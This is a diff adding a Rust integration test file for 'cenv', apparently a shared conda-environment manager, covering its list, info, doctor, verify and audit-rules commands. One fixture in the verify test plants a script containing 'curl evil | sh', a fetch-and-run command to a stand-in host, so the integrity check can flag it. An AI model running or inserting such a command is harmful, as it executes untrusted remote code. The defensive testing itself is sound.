@@ -1,0 +1,594 @@
+//! cenv list, info, doctor, verify and audit-rules against real layouts built
+//! by the tests and against the genuine (rattler-installed) envs.
+
+mod common;
+
+use std::fs;
+use std::os::unix::fs::{symlink, PermissionsExt};
+use std::path::Path;
+use std::process::{Child, Command, Output, Stdio};
+
+use common::*;
+
+fn shared(envs: &[&str], extra: &str) -> Sandbox {
+    let sb = Sandbox::new();
+    shared_layout(&sb, envs);
+    // the fixtures' bin/python leads to the system python: not what doctor is about here
+    for env in envs {
+        let _ = fs::remove_file(sb.path(&format!("envs/{env}/bin/python")));
+    }
+    sb.config(&format!(
+        "envs_dirs = [\"{}\"]\n{extra}",
+        sb.path("envs").display()
+    ));
+    sb.mkdir("work");
+    fs::set_permissions(sb.path("work"), fs::Permissions::from_mode(0o1777)).unwrap();
+    sb
+}
+
+fn cenv_as(sb: &Sandbox, user: &str) -> Command {
+    let mut cmd = as_user(user, cenv_binary());
+    cmd.arg("--config")
+        .arg(sb.path("cenv.toml"))
+        .current_dir(sb.path("work"));
+    cmd
+}
+
+/// Compares `actual` with tests/snapshots/NAME after replacing the sandbox
+/// root; CENV_UPDATE_SNAPSHOTS=1 rewrites the file.
+fn snapshot(name: &str, actual: &str, replacements: &[(&str, &str)]) {
+    let mut text = actual.to_owned();
+    for (from, to) in replacements {
+        text = text.replace(from, to);
+    }
+    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/snapshots")
+        .join(name);
+    if std::env::var_os("CENV_UPDATE_SNAPSHOTS").is_some() {
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(&path, &text).unwrap();
+    }
+    let expected = fs::read_to_string(&path)
+        .unwrap_or_else(|_| panic!("no snapshot {}: run with CENV_UPDATE_SNAPSHOTS=1", path.display()));
+    assert_eq!(
+        text, expected,
+        "snapshot {name} changed (the --json schema is meant to be stable)"
+    );
+}
+
+fn root_str(sb: &Sandbox) -> String {
+    sb.root.display().to_string()
+}
+
+// ---- list / info ----
+
+#[test]
+fn list_shows_python_owner_and_whether_you_may_use_it() {
+    require_root!();
+    let sb = shared(&["cv", "nlp"], &format!("[envs.nlp]\nusers = [\"{BOB}\"]\n"));
+    let out = cenv_as(&sb, ALICE).arg("list").output().unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+    let text = stdout(&out);
+    let cv = text.lines().find(|l| l.starts_with("cv ")).unwrap();
+    assert!(
+        cv.contains("3.11.2") && cv.contains(&format!("{ADMIN}:{RESEARCH}")) && cv.ends_with("yes"),
+        "{text}"
+    );
+    let nlp = text.lines().find(|l| l.starts_with("nlp ")).unwrap();
+    assert!(nlp.ends_with("no: not in the users list"), "{text}");
+    let json = cenv_as(&sb, ALICE).args(["list", "--json"]).output().unwrap();
+    snapshot("list.json", &stdout(&json), &[(&root_str(&sb), "<root>")]);
+}
+
+#[test]
+fn list_and_info_show_the_refusal_reason_to_someone_outside_the_group() {
+    require_root!();
+    let sb = shared(&["cv"], &format!("[envs.cv]\ngroups = [\"{RESEARCH}\"]\n"));
+    // bob cannot even list the envs root (2750): the policy still answers
+    let out = cenv_as(&sb, BOB).arg("list").output().unwrap();
+    let text = stdout(&out);
+    assert!(
+        text.lines()
+            .any(|l| l.starts_with("cv ") && l.ends_with(&format!("no: not in group {RESEARCH}"))),
+        "{text}"
+    );
+    let out = cenv_as(&sb, BOB).args(["info", "cv"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(125));
+    assert!(
+        stderr(&out).contains(&format!(
+            "{BOB} may not use env 'cv': it is open to the group {RESEARCH}"
+        )),
+        "{}",
+        stderr(&out)
+    );
+}
+
+#[test]
+fn info_shows_everything_about_an_env() {
+    require_root!();
+    let sb = shared(
+        &["cv"],
+        &format!("[envs.cv]\ngroups = [\"{RESEARCH}\"]\numask = \"077\"\n"),
+    );
+    sb.write(
+        "envs/cv/conda-meta/state",
+        r#"{"env_vars": {"DATA": "/data/cv"}}"#,
+    );
+    sb.write("envs/cv/etc/conda/activate.d/x.sh", "true\n");
+    sb.write(
+        "envs/cv/conda-meta/history",
+        "==> 2026-01-02 03:04:05 <==\n# cmd: conda create -n cv python\n+defaults::python-3.11.2\n",
+    );
+    sb.write("envs/cv/conda-meta/numpy-1.26.4-py311_0.json", "{}");
+    chown_tree(&sb.path("envs/cv"), user(ADMIN).uid, group_gid(RESEARCH));
+    set_shared_modes(&sb.path("envs/cv"));
+    let out = cenv_as(&sb, ALICE).args(["info", "cv"]).output().unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+    let text = stdout(&out);
+    for expected in [
+        format!("owner:group:     {ADMIN}:{RESEARCH}"),
+        "mode:            2750".to_owned(),
+        format!("[envs.cv] groups: {RESEARCH}"),
+        "umask:           077".into(),
+        "packages:        2".into(),
+        "python:          3.11.2".into(),
+        "env vars:        DATA=/data/cv".into(),
+        "trust check:     trusted".into(),
+        "last change:     2026-01-02 03:04:05 conda create -n cv python".into(),
+    ] {
+        assert!(text.contains(&expected), "missing {expected:?} in\n{text}");
+    }
+    let json = cenv_as(&sb, ALICE)
+        .args(["info", "--json", "cv"])
+        .output()
+        .unwrap();
+    snapshot("info.json", &stdout(&json), &[(&root_str(&sb), "<root>")]);
+}
+
+// ---- doctor ----
+
+fn doctor_json(sb: &Sandbox, args: &[&str]) -> (Option<i32>, serde_json::Value) {
+    let out = cenv_as(sb, ALICE)
+        .args(["doctor", "--json"])
+        .args(args)
+        .output()
+        .unwrap();
+    let value: serde_json::Value =
+        serde_json::from_slice(&out.stdout).unwrap_or_else(|_| panic!("{}\n{}", stdout(&out), stderr(&out)));
+    (out.status.code(), value)
+}
+
+fn has_finding(report: &serde_json::Value, severity: &str, path: &Path, problem: &str, fix: &str) -> bool {
+    report["findings"].as_array().unwrap().iter().any(|f| {
+        f["severity"] == severity
+            && f["path"] == path.to_str().unwrap()
+            && f["problem"].as_str().unwrap().contains(problem)
+            && f["fix"].as_str().unwrap().starts_with(fix)
+    })
+}
+
+#[test]
+fn doctor_is_quiet_on_a_clean_tree() {
+    require_root!();
+    let sb = shared(&["cv"], "");
+    let (status, report) = doctor_json(&sb, &["cv"]);
+    assert_eq!(report["findings"], serde_json::json!([]), "{report:#}");
+    assert_eq!(status, Some(0));
+    let out = cenv_as(&sb, ALICE).args(["doctor", "cv"]).output().unwrap();
+    assert_eq!(stdout(&out), "");
+}
+
+#[test]
+fn doctor_finds_each_broken_thing_with_its_fix() {
+    require_root!();
+    type Break = fn(&Sandbox);
+    let cases: Vec<(&str, Break, &str, &str, &str, &str)> = vec![
+        (
+            "no setgid on the root",
+            |sb| fs::set_permissions(sb.path("envs"), fs::Permissions::from_mode(0o0750)).unwrap(),
+            "warning",
+            "envs",
+            "setgid bit is not set",
+            "chmod g+s",
+        ),
+        (
+            "root mode",
+            |sb| fs::set_permissions(sb.path("envs"), fs::Permissions::from_mode(0o2770)).unwrap(),
+            "warning",
+            "envs",
+            "mode 2770, expected 2750",
+            "chmod 2750",
+        ),
+        (
+            "group-writable file",
+            |sb| {
+                fs::set_permissions(
+                    sb.path("envs/cv/lib/data.txt"),
+                    fs::Permissions::from_mode(0o0660),
+                )
+                .unwrap()
+            },
+            "error",
+            "envs/cv/lib/data.txt",
+            "writable by the group",
+            "chmod g-w",
+        ),
+        (
+            "world-writable dir",
+            |sb| fs::set_permissions(sb.path("envs/cv/lib"), fs::Permissions::from_mode(0o2757)).unwrap(),
+            "error",
+            "envs/cv/lib",
+            "writable by everyone",
+            "chmod o-w",
+        ),
+        (
+            "setuid file",
+            |sb| {
+                sb.write("envs/cv/bin/suid", "#!/bin/sh\n");
+                chown_tree(&sb.path("envs/cv/bin/suid"), user(ADMIN).uid, group_gid(RESEARCH));
+                fs::set_permissions(sb.path("envs/cv/bin/suid"), fs::Permissions::from_mode(0o4750)).unwrap();
+            },
+            "error",
+            "envs/cv/bin/suid",
+            "setuid/setgid",
+            "chmod u-s,g-s",
+        ),
+        (
+            "file owned by someone else",
+            |sb| {
+                sb.write("envs/cv/lib/planted.py", "x = 1\n");
+                chown_tree(
+                    &sb.path("envs/cv/lib/planted.py"),
+                    user(BOB).uid,
+                    group_gid(RESEARCH),
+                );
+                fs::set_permissions(
+                    sb.path("envs/cv/lib/planted.py"),
+                    fs::Permissions::from_mode(0o640),
+                )
+                .unwrap();
+            },
+            "warning",
+            "envs/cv/lib/planted.py",
+            "owned by cenvt-bob, not by the env's owner cenvt-admin",
+            "chown cenvt-admin",
+        ),
+        (
+            "bin link leaving the env",
+            |sb| {
+                symlink("/usr/bin/env", sb.path("envs/cv/bin/env")).unwrap();
+                std::os::unix::fs::lchown(
+                    sb.path("envs/cv/bin/env"),
+                    Some(user(ADMIN).uid),
+                    Some(group_gid(RESEARCH)),
+                )
+                .unwrap();
+            },
+            "warning",
+            "envs/cv/bin/env",
+            "a symlink to /usr/bin/env, outside the env",
+            "ls -l",
+        ),
+        (
+            "env not owned like its root",
+            |sb| std::os::unix::fs::lchown(sb.path("envs/cv"), Some(0), None).unwrap(),
+            "warning",
+            "envs/cv",
+            "owned by root:cenvt-research, but the envs root by cenvt-admin:cenvt-research",
+            "chown -R cenvt-admin:cenvt-research",
+        ),
+    ];
+    for (label, break_it, severity, rel, problem, fix) in cases {
+        let sb = shared(&["cv"], "");
+        break_it(&sb);
+        let (status, report) = doctor_json(&sb, &["cv"]);
+        assert!(
+            has_finding(&report, severity, &sb.path(rel), problem, fix),
+            "{label}: {report:#}"
+        );
+        assert_eq!(status, Some(if severity == "error" { 2 } else { 1 }), "{label}");
+    }
+}
+
+#[test]
+fn doctor_says_when_a_restricted_root_is_open_to_everyone() {
+    require_root!();
+    let sb = shared(&["cv"], &format!("default_groups = [\"{RESEARCH}\"]\n"));
+    fs::set_permissions(sb.path("envs"), fs::Permissions::from_mode(0o2755)).unwrap();
+    let (status, report) = doctor_json(&sb, &["cv"]);
+    assert!(
+        has_finding(
+            &report,
+            "error",
+            &sb.path("envs"),
+            "everyone may enter it",
+            "chmod o-rwx"
+        ),
+        "{report:#}"
+    );
+    assert_eq!(status, Some(2));
+    snapshot(
+        "doctor.json",
+        &serde_json::to_string_pretty(&report).unwrap(),
+        &[(&root_str(&sb), "<root>")],
+    );
+}
+
+#[test]
+fn doctor_all_checks_the_umask_and_the_auditd_watch() {
+    require_root!();
+    let _lock = machine_lock();
+    let sb = shared(&["cv"], "");
+    let envs = sb.path("envs");
+    let (_, report) = doctor_json(&sb, &["--all"]);
+    assert!(
+        has_finding(
+            &report,
+            "warning",
+            &envs,
+            "no auditd watch covers it",
+            &format!("echo '-w {} -p wa", envs.display())
+        ),
+        "{report:#}"
+    );
+    fs::create_dir_all("/etc/audit/rules.d").unwrap();
+    fs::write(
+        "/etc/audit/rules.d/cenv-test.rules",
+        format!("-w {} -p wa -k cenv_env_write\n", envs.display()),
+    )
+    .unwrap();
+    let (_, report) = doctor_json(&sb, &["--all"]);
+    fs::remove_file("/etc/audit/rules.d/cenv-test.rules").unwrap();
+    assert!(
+        !has_finding(&report, "warning", &envs, "no auditd watch", ""),
+        "{report:#}"
+    );
+    // the caller's umask
+    let mut cmd = cenv_as(&sb, ALICE);
+    cmd.args(["doctor", "--json", "--all"]);
+    {
+        use std::os::unix::process::CommandExt;
+        // SAFETY: umask(2) is async-signal-safe and touches no memory.
+        unsafe {
+            cmd.pre_exec(|| {
+                libc::umask(0o022);
+                Ok(())
+            });
+        }
+    }
+    let report: serde_json::Value = serde_json::from_slice(&cmd.output().unwrap().stdout).unwrap();
+    assert!(
+        has_finding(
+            &report,
+            "warning",
+            Path::new("umask"),
+            "your umask is 0022, looser than 0027",
+            "umask 027"
+        ),
+        "{report:#}"
+    );
+}
+
+struct Server(Child);
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+fn listening(port: u16) -> bool {
+    let hex = format!(":{port:04X} ");
+    ["/proc/net/tcp", "/proc/net/tcp6"].iter().any(|f| {
+        fs::read_to_string(f)
+            .unwrap_or_default()
+            .lines()
+            .any(|l| l.contains(&hex) && l.split_whitespace().nth(3) == Some("0A"))
+    })
+}
+
+#[test]
+fn doctor_finds_a_server_from_an_env_listening_beyond_loopback() {
+    let g = require_genuine!();
+    let sb = Sandbox::new();
+    sb.config(&format!(
+        "envs_dirs = [\"{}\"]\nreadonly_paths = [\"{}\"]\n",
+        g.envs().display(),
+        g.pkgs().display()
+    ));
+    sb.mkdir("work");
+    fs::set_permissions(sb.path("work"), fs::Permissions::from_mode(0o1777)).unwrap();
+    let base = 20000 + (std::process::id() % 20000) as u16;
+    let (open_port, local_port) = (base, base + 1);
+    let start = |bind: &str, port: u16| {
+        Server(
+            cenv_as(&sb, ALICE)
+                .args([
+                    "run",
+                    "genuine",
+                    "python",
+                    "-m",
+                    "http.server",
+                    "--bind",
+                    bind,
+                    &port.to_string(),
+                ])
+                .stdout(Stdio::null())
+                .stderr(Stdio::null())
+                .spawn()
+                .unwrap(),
+        )
+    };
+    let _open = start("0.0.0.0", open_port);
+    let _local = start("127.0.0.1", local_port);
+    for _ in 0..200 {
+        if listening(open_port) && listening(local_port) {
+            break;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(25));
+    }
+    let (status, report) = doctor_json(&sb, &["--all"]);
+    let servers: Vec<&serde_json::Value> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["problem"].as_str().unwrap().contains(" listens on "))
+        .collect();
+    assert_eq!(servers.len(), 1, "{report:#}");
+    let finding = servers[0];
+    assert!(finding["path"]
+        .as_str()
+        .unwrap()
+        .starts_with(g.prefix("genuine").to_str().unwrap()));
+    assert!(
+        finding["problem"]
+            .as_str()
+            .unwrap()
+            .contains(&format!("of {ALICE} listens on 0.0.0.0:{open_port}")),
+        "{finding}"
+    );
+    assert!(finding["fix"]
+        .as_str()
+        .unwrap()
+        .contains(&format!("ssh -L {open_port}:127.0.0.1:{open_port}")));
+    assert_eq!(status, Some(2));
+}
+
+// ---- verify ----
+
+/// A copy of the genuine env inside its envs root, free to be damaged.
+fn genuine_copy(g: &Genuine, name: &str) -> std::path::PathBuf {
+    let copy = g.prefix(name);
+    let _ = fs::remove_dir_all(&copy);
+    sh(&[
+        "cp",
+        "-a",
+        g.prefix("genuine").to_str().unwrap(),
+        copy.to_str().unwrap(),
+    ]);
+    copy
+}
+
+fn verify(prefix: &Path) -> (Option<i32>, serde_json::Value, Output) {
+    let out = Command::new(cenv_binary())
+        .args(["verify", "--json", "-p"])
+        .arg(prefix)
+        .output()
+        .unwrap();
+    let value = serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null);
+    (out.status.code(), value, out)
+}
+
+fn discrepancy<'a>(report: &'a serde_json::Value, path: &str) -> Option<&'a serde_json::Value> {
+    report["discrepancies"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|d| d["path"] == path)
+}
+
+#[test]
+fn verify_passes_an_untouched_env_and_catches_every_kind_of_change() {
+    let g = require_genuine!();
+    let copy = genuine_copy(g, "verify-copy");
+    let (status, report, out) = verify(&copy);
+    assert_eq!(status, Some(0), "{report:#} {}", stderr(&out));
+    assert_eq!(report["discrepancies"], serde_json::json!([]));
+    assert!(report["files_checked"].as_u64().unwrap() > 2000);
+
+    // a byte changed in a file whose placeholder was rewritten at install
+    let tool = copy.join("bin/cenv-tool");
+    let mut bytes = fs::read(&tool).unwrap();
+    let last = bytes.len() - 2;
+    bytes[last] ^= 0x20;
+    fs::write(&tool, &bytes).unwrap();
+    // a byte changed in a numpy extension module
+    let so = fs::read_dir(copy.join("lib/python3.11/site-packages/numpy/core"))
+        .unwrap()
+        .flatten()
+        .map(|e| e.path())
+        .find(|p| p.to_string_lossy().ends_with(".so"))
+        .unwrap();
+    let mut bytes = fs::read(&so).unwrap();
+    bytes[1000] ^= 0xff;
+    fs::write(&so, &bytes).unwrap();
+    // a deleted file, and a planted script
+    fs::remove_file(copy.join("lib/python3.11/site-packages/numpy/version.py")).unwrap();
+    fs::write(copy.join("bin/evil"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+
+    let (status, report, _) = verify(&copy);
+    assert_eq!(status, Some(1));
+    let tool_d = discrepancy(&report, "bin/cenv-tool").expect("placeholder file");
+    assert_eq!(tool_d["problem"], "altered");
+    assert!(
+        tool_d["detail"].as_str().unwrap().starts_with("sha256"),
+        "{tool_d}"
+    );
+    let so_rel = so.strip_prefix(&copy).unwrap().to_str().unwrap().to_owned();
+    assert_eq!(
+        discrepancy(&report, &so_rel).expect("numpy .so")["problem"],
+        "altered"
+    );
+    assert_eq!(
+        discrepancy(&report, "lib/python3.11/site-packages/numpy/version.py").expect("deleted")["problem"],
+        "missing"
+    );
+    assert_eq!(
+        discrepancy(&report, "bin/evil").expect("planted")["problem"],
+        "unrecorded"
+    );
+    assert_eq!(report["discrepancies"].as_array().unwrap().len(), 4, "{report:#}");
+    let mut normalized = report.clone();
+    normalized["discrepancies"]
+        .as_array_mut()
+        .unwrap()
+        .iter_mut()
+        .for_each(|d| d["detail"] = "<detail>".into());
+    normalized["files_checked"] = 0.into();
+    snapshot(
+        "verify.json",
+        &serde_json::to_string_pretty(&normalized).unwrap(),
+        &[(copy.to_str().unwrap(), "<prefix>"), (&so_rel, "<numpy .so>")],
+    );
+    fs::remove_dir_all(&copy).unwrap();
+}
+
+#[test]
+fn doctor_is_quiet_on_a_genuine_env() {
+    let g = require_genuine!();
+    let sb = Sandbox::new();
+    sb.config(&format!("envs_dirs = [\"{}\"]\n", g.envs().display()));
+    sb.mkdir("work");
+    fs::set_permissions(sb.path("work"), fs::Permissions::from_mode(0o1777)).unwrap();
+    let (status, report) = doctor_json(&sb, &["genuine"]);
+    assert_eq!(report["findings"], serde_json::json!([]), "{report:#}");
+    assert_eq!(status, Some(0));
+}
+
+#[test]
+fn audit_rules_watch_the_envs_roots_and_package_caches() {
+    let sb = Sandbox::new();
+    sb.config(&format!(
+        "envs_dirs = [\"{}\"]\nreadonly_paths = [\"{}\"]\n",
+        sb.path("envs").display(),
+        sb.path("pkgs").display()
+    ));
+    let out = sb.cenv().arg("audit-rules").output().unwrap();
+    assert!(out.status.success());
+    let text = stdout(&out);
+    assert!(
+        text.contains(&format!(
+            "-w {} -p wa -k cenv_env_write\n",
+            sb.path("envs").display()
+        )),
+        "{text}"
+    );
+    assert!(
+        text.contains(&format!(
+            "-w {} -p wa -k cenv_env_write\n",
+            sb.path("pkgs").display()
+        )),
+        "{text}"
+    );
+}
